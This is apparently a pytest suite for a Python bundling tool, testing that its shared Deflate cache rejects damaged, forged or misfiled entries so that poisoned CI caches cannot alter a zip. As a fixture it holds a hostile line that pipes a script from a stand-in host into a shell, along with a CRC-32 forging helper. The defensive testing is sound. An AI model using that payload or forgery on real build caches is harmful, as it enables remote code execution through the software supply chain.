"""The Deflate cache is checked against the bytes being zipped, never trusted.

A shared cache (CI caches are shared between branches and forks) must not be a
way to put other bytes into a bundle: every entry is checked against the file it
claims to hold (size, CRC-32 and the stream itself), and the record's checksum
covers all of it.
"""

from __future__ import annotations

import hashlib
import logging
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from pyfn_action.bundle.deflate import (
    DEFLATED,
    STORED,
    Compressed,
    DeflateCache,
    compress,
    compress_all,
)
from pyfn_action.bundle.entry import Entry
from pyfn_action.bundle.zipper import COMPRESS_LEVEL, write_zip

SOURCE = b"def hello(request):\n    return 'hello from the real source'\n" * 40
EVIL = b"import os\nos.system('curl evil.example | sh')\n"


def _forge_crc(prefix: bytes, length: int, target: int) -> bytes:
    """``prefix`` padded to ``length`` bytes whose CRC-32 is ``target``.

    CRC-32 is affine over GF(2) for a fixed length, so the last four bytes are a
    solution of 32 linear equations: anyone can match a CRC-32 and a size.
    """
    body = prefix + b"#" * (length - len(prefix) - 4)
    base = zlib.crc32(body + bytes(4))
    columns = []
    for bit in range(32):
        patch = (1 << bit).to_bytes(4, "little")
        columns.append(zlib.crc32(body + patch) ^ base)
    # Solve sum(x_i * columns[i]) == base ^ target by Gaussian elimination.
    rows = [(columns[i], 1 << i) for i in range(32)]
    want = base ^ target
    basis: dict[int, tuple[int, int]] = {}
    for value, mask in rows:
        for top in sorted(basis, reverse=True):
            if value >> top & 1:
                value ^= basis[top][0]
                mask ^= basis[top][1]
        if value:
            basis[value.bit_length() - 1] = (value, mask)
    solution = 0
    for top in sorted(basis, reverse=True):
        if want >> top & 1:
            want ^= basis[top][0]
            solution ^= basis[top][1]
    assert want == 0, "CRC-32 is onto for four free bytes"
    forged = body + solution.to_bytes(4, "little")
    assert len(forged) == length and zlib.crc32(forged) == target
    return forged


def _entries(tmp_path: Path) -> list[Entry]:
    main = tmp_path / "src" / "main.py"
    main.parent.mkdir(parents=True, exist_ok=True)
    main.write_bytes(SOURCE)
    return [
        Entry("app/main.py", main, None, False, "app", "app"),
        Entry("index.js", None, b"module.exports = {}\n" * 20, False, "shim", "shim"),
    ]


def _cache(cache_dir: Path) -> DeflateCache:
    return DeflateCache(cache_dir / "deflate", COMPRESS_LEVEL)


def _entry_path(cache_dir: Path, data: bytes) -> Path:
    digest = hashlib.sha256(data).hexdigest()
    return cache_dir / "deflate" / f"level-{COMPRESS_LEVEL}" / digest[:2] / digest


def _assert_bundle_holds_the_source(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        assert zf.read("app/main.py") == SOURCE


def test_a_flipped_bit_in_the_cached_crc_is_recomputed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    cache_dir = tmp_path / "cache"
    good = write_zip(_entries(tmp_path), tmp_path / "a" / "b.zip", cache_dir=cache_dir)
    entry = _entry_path(cache_dir, SOURCE)
    raw = bytearray(entry.read_bytes())
    raw[9] ^= 0x01  # the CRC-32 field follows the magic (8 bytes) and the method (1 byte)
    entry.write_bytes(bytes(raw))
    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
        again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(again.path)
    assert again.sha256 == good.sha256
    assert any(str(entry) in r.getMessage() for r in caplog.records), "the discard is logged"
    assert _cache(cache_dir).get(hashlib.sha256(SOURCE).hexdigest(), SOURCE) is not None


@pytest.mark.parametrize("same_crc", [False, True], ids=["own-crc", "source-crc-and-size"])
def test_a_forged_self_consistent_entry_is_never_zipped(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, same_crc: bool
) -> None:
    cache_dir = tmp_path / "cache"
    good = write_zip(_entries(tmp_path), tmp_path / "a" / "b.zip", cache_dir=cache_dir)
    evil = _forge_crc(EVIL, len(SOURCE), zlib.crc32(SOURCE)) if same_crc else EVIL
    # The attacker writes a well-formed record under the source's name with the
    # cache's own writer: its checksum is right for what it holds.
    _cache(cache_dir).put(hashlib.sha256(SOURCE).hexdigest(), compress(evil, COMPRESS_LEVEL))
    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
        again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(again.path)
    assert again.sha256 == good.sha256
    assert [w.uncompressed_bytes for w in again.entries if w.arcname == "app/main.py"] == [
        len(SOURCE)
    ]
    assert any("recomputing" in r.getMessage() for r in caplog.records)
    # The forged record was replaced by the real one.
    item = _cache(cache_dir).get(hashlib.sha256(SOURCE).hexdigest(), SOURCE)
    assert item is not None and item.crc32 == zlib.crc32(SOURCE)


def _put_raw(cache: DeflateCache, digest: str, item: Compressed) -> Path:
    cache.put(digest, item)
    assert cache.root is not None
    return cache.root / digest[:2] / digest


def test_a_record_filed_under_another_content_is_refused(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    other = b"other content " * 100
    moved = _put_raw(cache, hashlib.sha256(other).hexdigest(), compress(other, 9))
    digest = hashlib.sha256(SOURCE).hexdigest()
    real = moved.parent.parent / digest[:2] / digest
    real.parent.mkdir(parents=True, exist_ok=True)
    os.replace(moved, real)
    assert cache.get(digest, SOURCE) is None
    assert not real.exists()  # discarded


@pytest.mark.parametrize(
    "damage",
    ["trailing-garbage", "truncated-stream", "stored-but-different", "header-only", "empty",
     "huge-claimed-size", "every-field-consistent-but-size"],
)  # fmt: skip
def test_damaged_or_forged_records_are_discarded(tmp_path: Path, damage: str) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    good = compress(SOURCE, 9)
    assert good.method == DEFLATED
    if damage == "trailing-garbage":
        item = Compressed(DEFLATED, good.crc32, good.size, good.payload + b"\x00junk")
    elif damage == "truncated-stream":
        item = Compressed(DEFLATED, good.crc32, good.size, good.payload[:-3])
    elif damage == "stored-but-different":
        item = Compressed(STORED, good.crc32, good.size, SOURCE[:-1] + b"!")
    elif damage == "huge-claimed-size":
        item = Compressed(DEFLATED, good.crc32, 2**40, good.payload)
    elif damage == "every-field-consistent-but-size":
        item = Compressed(DEFLATED, good.crc32, good.size + 1, good.payload)
    else:
        item = good
    path = _put_raw(cache, digest, item)
    if damage == "header-only":
        path.write_bytes(path.read_bytes()[:40])
    elif damage == "empty":
        path.write_bytes(b"")
    assert cache.get(digest, SOURCE) is None
    assert not path.exists()
    # and an intact record of the same content is used
    _put_raw(cache, digest, good)
    assert cache.get(digest, SOURCE) == good


def test_a_cache_entry_that_is_not_a_regular_file_is_not_read(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    path = cache.root / digest[:2] / digest  # type: ignore[operator]
    path.parent.mkdir(parents=True)
    os.mkfifo(path)  # reading a FIFO would block the build forever
    assert cache.get(digest, SOURCE) is None
    elsewhere = tmp_path / "elsewhere"
    _put_raw(DeflateCache(elsewhere, 9), digest, compress(SOURCE, 9))
    path.unlink(missing_ok=True)
    path.symlink_to(elsewhere / "level-9" / digest[:2] / digest)
    assert cache.get(digest, SOURCE) is None  # links are not followed out of the cache
    path.unlink(missing_ok=True)
    path.mkdir()
    (path / "x").write_bytes(b"")
    assert cache.get(digest, SOURCE) is None  # a directory is no record either
    items = compress_all([lambda: SOURCE], cache)  # and the zip step goes on
    assert items == [(digest, compress(SOURCE, 9))]


def test_old_format_records_are_recomputed(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    good = compress(SOURCE, 9)
    head = struct.pack(
        ">8sBIQQ32s", b"PYFNDEF1", good.method, good.crc32, good.size, len(good.payload),
        hashlib.sha256(good.payload).digest(),
    )  # fmt: skip
    path = cache.root / digest[:2] / digest  # type: ignore[operator]
    path.parent.mkdir(parents=True)
    path.write_bytes(head + good.payload)
    assert cache.get(digest, SOURCE) is None
    items = compress_all([lambda: SOURCE], cache)
    assert items == [(digest, good)] and cache.misses == 1
    assert cache.get(digest, SOURCE) == good


def test_warm_builds_reuse_verified_entries(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    data = [SOURCE, b"", b"x", os.urandom(5000)]  # deflated, empty, stored, incompressible
    cold = compress_all([lambda d=d: d for d in data], cache)  # type: ignore[misc]
    assert cache.misses == 4 and cache.hits == 0
    warm = compress_all([lambda d=d: d for d in data], cache)  # type: ignore[misc]
    assert warm == cold and cache.hits == 4


def test_a_cache_that_cannot_be_written_does_not_fail_the_zip(tmp_path: Path) -> None:
    cache_dir = tmp_path / "cache"
    shard = _entry_path(cache_dir, SOURCE).parent
    shard.parent.mkdir(parents=True)
    shard.write_bytes(b"")  # a file where the cache wants a directory
    result = write_zip(_entries(tmp_path), tmp_path / "out" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(result.path)
